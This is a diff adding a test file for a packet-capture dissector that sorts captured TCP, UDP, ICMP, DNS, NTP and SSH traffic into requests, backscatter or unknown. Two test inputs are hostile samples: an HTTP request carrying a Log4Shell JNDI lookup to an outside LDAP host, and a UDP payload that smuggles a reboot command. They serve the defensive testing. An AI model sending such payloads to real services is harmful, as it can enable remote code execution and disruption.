@@ -1,0 +1,171 @@
+import { describe, expect, it, test } from 'vitest'
+import type { Conversation } from '#model/session.ts'
+import { ethernet } from '../build/ethernet.ts'
+import { ip } from '../build/ip.ts'
+import { pcap, type TimedFrame } from '../build/pcap.ts'
+import { icmp, type Segment, tcp, udp } from '../build/transport.ts'
+import { ecdhInit, ecdhReply, kexInitOf } from '../protocols/samples/ssh.ts'
+import { dissected } from '../testing/dissected.ts'
+import { client, connection, server, start } from '../testing/exchange.ts'
+
+/** Claims about docs/methods/direction.md. `client` asks, `server` answers, whatever was captured of it. */
+
+type Packet = [from: 'client' | 'server', segment: Segment]
+
+const frames = (packets: Packet[]): TimedFrame[] =>
+  packets.map(([from, segment], index) => {
+    const [source, destination] = from === 'client' ? [client, server] : [server, client]
+    return { at: start + index, frame: ethernet(ip({ source, destination, id: index }, segment)) }
+  })
+
+const only = async (captured: TimedFrame[]): Promise<Conversation> => {
+  const { conversations } = await dissected(pcap(captured))
+  expect(conversations).toHaveLength(1)
+  return conversations[0]!
+}
+
+const judged = async (captured: TimedFrame[]): Promise<[source: string, direction: string]> => {
+  const { source, direction } = await only(captured)
+  return [source.ip === client ? 'client' : 'server', direction]
+}
+
+/** A segment of a connection from port 40000 to `port`. */
+const segment = (from: 'client' | 'server', port: number, flags: string, payload = ''): Packet => {
+  const [sourcePort, destinationPort] = from === 'client' ? [40_000, port] : [port, 40_000]
+  return [from, tcp({ sourcePort, destinationPort, sequence: 1, acknowledgment: 1, flags, payload })]
+}
+
+const datagram = (from: 'client' | 'server', port: number, payload: string, own = 40_000): Packet => {
+  const [sourcePort, destinationPort] = from === 'client' ? [own, port] : [port, own]
+  return [from, udp({ sourcePort, destinationPort, payload })]
+}
+
+const request = 'GET /a HTTP/1.1\r\nHost: h.test\r\n\r\n'
+const response = 'HTTP/1.1 200 OK\r\nServer: s\r\nContent-Length: 2\r\n\r\nok'
+const query = '\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x01a\x04test\x00\x00\x01\x00\x01'
+const answer = `\x00\x01\x81\x80${query.slice(4)}`
+
+describe('a connection', () => {
+  const whole = connection(request, response)
+
+  it('was asked for by who sent the first SYN, however much of its end is missing', async () => {
+    for (let kept = 1; kept <= whole.length; kept++)
+      expect(await judged(whole.slice(0, kept))).toEqual(['client', 'request'])
+  })
+
+  it('whose beginning is missing is of who asks in it, as long as anything of the kind is left', async () => {
+    for (let dropped = 1; dropped < whole.length; dropped++) {
+      const [source, direction] = await judged(whole.slice(dropped))
+      // Behind the response only two FINs and an ACK are left, which nobody can tell apart.
+      if (dropped <= 4) expect([source, direction, dropped]).toEqual(['client', 'request', dropped])
+      expect([source, direction]).not.toEqual(['server', 'request'])
+      expect([source, direction]).not.toEqual(['server', 'unknown'])
+    }
+  })
+
+  it('keeps what each end said apart: what a server asks is no request of its client', async () => {
+    const hostile = 'GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1\r\nUser-Agent: evil\r\n\r\n'
+    const one = await only(connection('hello\r\n', hostile))
+    expect(one).toMatchObject({ source: { ip: client }, direction: 'request', http: null })
+    expect(one.destinationHttp?.requests).toMatchObject([{ userAgent: 'evil' }])
+    const both = await only(connection(request, `${response}${hostile}`))
+    expect(both.http).toMatchObject({ requestCount: 1, statusCodes: [200], serverHeader: 's' })
+    expect(both.destinationHttp).toMatchObject({ requestCount: 1, statusCodes: [] })
+  })
+
+  it('of SSH is of who begins the key exchange, with the marks of that end', async () => {
+    const bytes = (value: Uint8Array): string => Buffer.from(value).toString('latin1')
+    const said = connection(
+      `SSH-2.0-Go\r\n${bytes(kexInitOf('client'))}${bytes(ecdhInit)}`,
+      `SSH-2.0-OpenSSH_9.6\r\n${bytes(kexInitOf('server'))}${bytes(ecdhReply)}`,
+      { midStream: true, destinationPort: 2222 },
+    )
+    const [hello, reply] = [said[0]!, said.find(({ frame }) => Buffer.from(frame).readUInt16BE(34) === 2222)!]
+    const turned = await only([{ ...reply, at: hello.at }, ...said.filter((one) => one !== reply)])
+    expect(turned).toMatchObject({
+      source: { ip: client, port: 40_000 },
+      direction: 'request',
+      ssh: { clientVersion: 'SSH-2.0-Go', serverVersion: 'SSH-2.0-OpenSSH_9.6' },
+      tcp: { sequence: 1001 },
+    })
+    expect(turned.ssh?.hassh).not.toBe('')
+  })
+})
+
+const nobody: [what: string, captured: TimedFrame[]][] = [
+  ['a SYN-ACK', frames([segment('server', 443, 'SA')])],
+  [
+    'a SYN-ACK and the reset of who never asked',
+    frames([segment('server', 443, 'SA'), segment('client', 443, 'R')]),
+  ],
+  ['a reset', frames([segment('server', 443, 'RA')])],
+  [
+    'data of a server caught in its middle',
+    frames([segment('server', 443, 'PA', '\x17\x03\x03\x00\x20abc')]),
+  ],
+  ['the end of a server’s connection', frames([segment('server', 80, 'FA'), segment('client', 80, 'A')])],
+  ['a response without its request', frames([segment('server', 8181, 'PA', response)])],
+  ['a greeting of a mail server', frames([segment('server', 2526, 'PA', '220 mail.test ESMTP\r\n')])],
+  ['an answer of DNS', frames([datagram('server', 53, answer)])],
+  ['an answer of DNS to port 53', frames([datagram('server', 53, answer, 53)])],
+  ['an answer of NTP', frames([datagram('server', 123, '\x24\x01\x00\xec')])],
+  ['a monitor list of NTP', frames([datagram('server', 123, '\xd7\x00\x03\x2a')])],
+  ['an answer of SNMP', frames([datagram('server', 161, '0\x1c\x02\x01\x01\x04\x06public\xa2\x0f')])],
+  ['an answer of SSDP', frames([datagram('server', 1900, 'HTTP/1.1 200 OK\r\n')])],
+  ['an answer of SIP', frames([datagram('server', 5062, 'SIP/2.0 200 OK\r\n')])],
+  ['chargen', frames([datagram('server', 19, ' !"#$%&')])],
+  ['an echo reply', frames([['server', icmp({ type: 0 })]])],
+  ['a port that cannot be reached', frames([['server', icmp({ type: 3, code: 3 })]])],
+  ['a time that is exceeded', frames([['server', icmp({ type: 11 })]])],
+]
+
+describe('an answer to a question nobody saw is backscatter', () => {
+  test.each(nobody)('%s', async (_what, captured) => {
+    expect((await only(captured)).direction).toBe('backscatter')
+  })
+})
+
+const asked: [what: string, captured: TimedFrame[]][] = [
+  ['a SYN', frames([segment('client', 443, 'S')])],
+  ['a segment that answers nothing (FIN scan)', frames([segment('client', 443, 'F')])],
+  ['all flags of a Xmas scan', frames([segment('client', 443, 'FPU')])],
+  ['no flags at all', frames([segment('client', 443, '')])],
+  [
+    'an answer of DNS before its question',
+    frames([datagram('server', 53, answer), datagram('client', 53, query)]),
+  ],
+  ['a question of DNS', frames([datagram('client', 53, query)])],
+  ['a question of NTP between the same ports', frames([datagram('client', 123, '\x23\x00\x0a\xfa', 123)])],
+  ['an echo request', frames([['client', icmp({ type: 8 })]])],
+  [
+    'an echo request behind the reply',
+    frames([
+      ['server', icmp({ type: 0 })],
+      ['client', icmp({ type: 8 })],
+    ]),
+  ],
+  ['an acknowledged SYN-ACK', frames([segment('server', 443, 'SA'), segment('client', 443, 'A')])],
+]
+
+describe('who asks is the source', () => {
+  test.each(asked)('%s', async (_what, captured) => {
+    expect(await judged(captured)).toEqual(['client', 'request'])
+  })
+
+  it('and an echo request gives the type, whatever came before it', async () => {
+    const { icmp: message } = await only(
+      frames([
+        ['server', icmp({ type: 3, code: 1 })],
+        ['client', icmp({ type: 8 })],
+      ]),
+    )
+    expect(message).toEqual({ type: 8, code: 0 })
+  })
+})
+
+test('what proves nothing is unknown, and its first sender the source', async () => {
+  expect(await judged(frames([segment('client', 8181, 'PA', '\x00\x01')]))).toEqual(['client', 'unknown'])
+  expect(await judged(frames([datagram('client', 40_001, 'hello')]))).toEqual(['client', 'unknown'])
+  // A port alone proves no answer: what an attacker sends from port 53 is still what they sent.
+  expect(await judged(frames([datagram('server', 53, 'orf;reboot', 9034)]))).toEqual(['server', 'unknown'])
+})
